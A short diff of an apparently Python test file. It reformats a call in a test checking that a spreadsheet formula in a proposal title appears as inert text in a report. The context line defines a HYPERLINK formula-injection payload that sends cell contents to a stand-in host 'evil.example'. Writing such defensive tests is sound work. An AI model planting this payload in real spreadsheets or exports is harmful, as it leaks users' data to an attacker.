@@ -15,7 +15,9 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 
 
 def test_a_formula_in_a_title_is_text_in_the_report(clock, cast, tctx, office):
-    proposal = service.create_draft(cast.actors[0], tctx, {**BODY, "kind": "proposal", "title": EVIL})
+    proposal = service.create_draft(
+        cast.actors[0], tctx, {**BODY, "kind": "proposal", "title": EVIL}
+    )
     service.invite(cast.actors[0], tctx, proposal.id, cast.reps[1:10])
     for i in range(1, 10):
         service.sign(cast.actors[i], tctx, proposal.id)
